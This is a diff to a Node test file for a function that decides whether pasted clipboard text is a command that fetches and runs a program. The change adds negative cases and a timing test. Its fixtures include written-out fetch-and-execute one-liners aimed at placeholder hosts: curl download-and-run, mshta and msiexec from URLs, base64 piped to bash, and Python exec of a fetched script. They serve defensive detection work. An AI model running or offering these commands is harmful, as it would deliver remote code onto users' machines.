@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import { COMMAND } from './clipboardCommand.ts'
+import { isCommand } from './clipboardCommand.ts'
 
 test('what fetches and runs a program is a command, however it is put', () => {
   for (const command of [
@@ -13,12 +13,14 @@ test('what fetches and runs a program is a command, however it is put', () => {
     'cmd /c start /min curl -s a.example/u -o %TEMP%\\u.bat && %TEMP%\\u.bat',
     'conhost --headless powershell -c x',
     'nslookup -q=txt a.example | sh',
+    'a=1; curl -o b https://a.example/b; chmod +x b',
+    'curl -o b https://a.example/b\n./b',
     'mshta https://a.example/d.hta',
     'msiexec /i https://a.example/a.msi /qn',
     'echo Y3VybA== | base64 -D | bash',
     'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://a.example/x\').read())"',
   ])
-    assert.match(command, COMMAND)
+    assert.equal(isCommand(command), true, command)
 })
 
 test('what only looks, restarts, installs by name or moves files is none', () => {
@@ -32,7 +34,17 @@ test('what only looks, restarts, installs by name or moves files is none', () =>
     'ls -la; cat notes.txt',
     'open the window and start again',
     '\\\\fileserver\\people\\Travel policy.docx',
+    'start the day; open a book\n\nand curl up',
+    'chmod +x a.sh; ./a.sh; curl https://api.example/',
     'ssh admin@host.example',
   ])
-    assert.doesNotMatch(line, COMMAND)
+    assert.equal(isCommand(line), false, line)
+})
+
+test('a long text is looked through in a moment, whatever it repeats', () => {
+  for (const piece of ['curl ', '; ', 'curl ;', 'curl start ', 'bash -c ', '| ', 'start ', 'cmd   ', 'python -c "']) {
+    const began = performance.now()
+    assert.equal(isCommand(piece.repeat(200_000 / piece.length)), false)
+    assert.ok(performance.now() - began < 1_000, piece)
+  }
 })
